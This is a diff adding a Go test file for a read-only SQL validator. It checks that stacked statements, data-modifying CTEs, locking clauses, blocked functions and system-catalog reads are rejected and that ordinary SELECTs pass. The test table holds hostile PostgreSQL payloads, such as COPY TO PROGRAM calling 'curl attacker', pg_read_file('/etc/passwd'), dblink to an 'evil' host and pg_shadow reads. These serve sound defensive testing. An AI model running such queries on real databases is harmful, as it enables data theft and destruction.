@@ -0,0 +1,113 @@
+package services
+
+import (
+	"errors"
+	"testing"
+)
+
+func TestSQLValidatorRejects(t *testing.T) {
+	tests := []struct {
+		name string
+		sql  string
+		code string
+	}{
+		{"empty", "  ;  ", "empty"},
+		{"comment only", "-- nothing", "empty"},
+		{"syntax error", "SELECT (1", "syntax_error"},
+
+		{"multiple statements", "SELECT 1; SELECT 2", "multiple_statements"},
+		{"stacked drop", "SELECT * FROM transactions; DROP TABLE transactions", "multiple_statements"},
+		{"stacked after comment", "SELECT 1 /* ; */; DELETE FROM users", "multiple_statements"},
+
+		{"delete", "DELETE FROM transactions", "not_select"},
+		{"update", "UPDATE users SET role_id = 1", "not_select"},
+		{"insert", "INSERT INTO users (email) VALUES ('x')", "not_select"},
+		{"copy to file", "COPY transactions TO '/tmp/out.csv'", "not_select"},
+		{"copy to program", "COPY (SELECT * FROM transactions) TO PROGRAM 'curl attacker'", "not_select"},
+		{"copy from", "COPY transactions FROM STDIN", "not_select"},
+		{"set", "SET role admin", "not_select"},
+		{"explain analyze", "EXPLAIN ANALYZE DELETE FROM transactions", "not_select"},
+		{"with main delete", "WITH x AS (SELECT 1) DELETE FROM transactions", "not_select"},
+
+		{"select into", "SELECT * INTO stolen FROM transactions", "select_into"},
+		{"select into temp", "SELECT id INTO TEMP t FROM transactions", "select_into"},
+
+		{"data-modifying cte delete", "WITH d AS (DELETE FROM transactions RETURNING *) SELECT * FROM d", "data_modifying_cte"},
+		{"data-modifying cte update", "WITH u AS (UPDATE users SET role_id = 1 RETURNING id) SELECT * FROM u", "data_modifying_cte"},
+		{"data-modifying cte insert", "WITH i AS (INSERT INTO users (email) VALUES ('x') RETURNING id) SELECT * FROM i", "data_modifying_cte"},
+		{"nested data-modifying cte", "SELECT * FROM (WITH d AS (DELETE FROM transactions RETURNING id) SELECT * FROM d) s", "data_modifying_cte"},
+
+		{"for update", "SELECT * FROM transactions FOR UPDATE", "locking_clause"},
+		{"for share", "SELECT * FROM transactions FOR SHARE", "locking_clause"},
+		{"for update in subquery", "SELECT * FROM (SELECT * FROM transactions FOR UPDATE) t", "locking_clause"},
+
+		{"pg_sleep", "SELECT pg_sleep(10)", "blocked_function"},
+		{"pg_sleep uppercase", "SELECT PG_SLEEP(10)", "blocked_function"},
+		{"pg_sleep quoted", `SELECT "pg_sleep"(10)`, "blocked_function"},
+		{"pg_sleep qualified", "SELECT pg_catalog.pg_sleep(10)", "blocked_function"},
+		{"pg_sleep in where", "SELECT * FROM transactions WHERE pg_sleep(1) IS NOT NULL", "blocked_function"},
+		{"pg_sleep in subquery", "SELECT * FROM transactions WHERE id IN (SELECT pg_sleep(1))", "blocked_function"},
+		{"pg_sleep in order by", "SELECT * FROM transactions ORDER BY pg_sleep(1)", "blocked_function"},
+		{"pg_sleep_for", "SELECT pg_sleep_for('5 minutes')", "blocked_function"},
+		{"set_config", "SELECT set_config('app.current_user_id', '1', false)", "blocked_function"},
+		{"set_config in case", "SELECT CASE WHEN true THEN set_config('role', 'admin', true) END", "blocked_function"},
+		{"set_config in cte", "WITH s AS (SELECT set_config('a', 'b', false)) SELECT * FROM s", "blocked_function"},
+		{"current_setting", "SELECT current_setting('app.current_user_id')", "blocked_function"},
+		{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", "blocked_function"},
+		{"pg_read_file in from", "SELECT * FROM pg_read_file('/etc/passwd')", "blocked_function"},
+		{"lo_import", "SELECT lo_import('/etc/passwd')", "blocked_function"},
+		{"dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "blocked_function"},
+		{"query_to_xml", "SELECT query_to_xml('SELECT * FROM users', true, true, '')", "blocked_function"},
+		{"pg_terminate_backend", "SELECT pg_terminate_backend(1)", "blocked_function"},
+		{"pg_sleep in tablesample", "SELECT amount FROM transactions TABLESAMPLE SYSTEM ((SELECT 100 FROM pg_sleep(20)))", "blocked_function"},
+		{"pg_sleep in repeatable", "SELECT amount FROM transactions t TABLESAMPLE SYSTEM (10) REPEATABLE ((SELECT pg_sleep(20)))", "blocked_function"},
+		{"pg_read_file in xmltable path", "SELECT * FROM XMLTABLE('/r' PASSING '<r/>' COLUMNS a text PATH pg_read_file('/etc/passwd'))", "blocked_function"},
+		{"pg_ls_dir in rows from", "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/'))", "blocked_function"},
+
+		{"pg_catalog table", "SELECT * FROM pg_catalog.pg_authid", "system_catalog"},
+		{"pg_ table", "SELECT * FROM pg_shadow", "system_catalog"},
+		{"pg_stat_activity", "SELECT query FROM pg_stat_activity", "system_catalog"},
+		{"information_schema", "SELECT * FROM information_schema.tables", "system_catalog"},
+		{"quoted information_schema", `SELECT * FROM "information_schema"."columns"`, "system_catalog"},
+		{"catalog in subquery", "SELECT * FROM transactions WHERE EXISTS (SELECT 1 FROM pg_roles)", "system_catalog"},
+		{"catalog in cte", "WITH r AS (SELECT * FROM pg_user) SELECT * FROM r", "system_catalog"},
+		{"catalog in union", "SELECT 1 UNION SELECT 1 FROM pg_catalog.pg_class", "system_catalog"},
+		{"catalog in tablesample", "SELECT amount FROM transactions TABLESAMPLE SYSTEM ((SELECT 100 FROM pg_catalog.pg_authid))", "system_catalog"},
+	}
+
+	validator := NewSQLValidator()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := validator.Validate(tt.sql)
+			var rejection *SQLValidationError
+			if !errors.As(err, &rejection) {
+				t.Fatalf("Validate(%q) error = %v, want [%s]", tt.sql, err, tt.code)
+			}
+			if rejection.Code != tt.code {
+				t.Errorf("Validate(%q) = %v, want [%s]", tt.sql, rejection, tt.code)
+			}
+		})
+	}
+}
+
+func TestSQLValidatorAccepts(t *testing.T) {
+	for _, sql := range []string{
+		"SELECT * FROM transactions",
+		"SELECT * FROM transactions;",
+		"select merch_name, sum(trx_amount_usd) as total from transactions group by merch_name order by total desc limit 5",
+		"WITH t AS (SELECT * FROM transactions) SELECT count(*) FROM t",
+		"SELECT 'pg_sleep(1); DROP TABLE users' AS text",
+		"SELECT $$; DELETE FROM users$$",
+		"SELECT * FROM transactions -- FOR UPDATE",
+		"SELECT date_trunc('month', date) AS month, count(*) FROM transactions GROUP BY 1",
+		"SELECT * FROM transactions WHERE merch_name ILIKE '%coffee%' OFFSET 10 LIMIT 10",
+		"SELECT 1 UNION ALL SELECT 2",
+		"VALUES (1), (2)",
+		"SELECT amount FROM transactions t TABLESAMPLE SYSTEM (10) REPEATABLE (42)",
+		"SELECT amount FROM transactions ORDER BY amount USING >",
+	} {
+		if _, err := NewSQLValidator().Validate(sql); err != nil {
+			t.Errorf("Validate(%q) error: %v", sql, err)
+		}
+	}
+}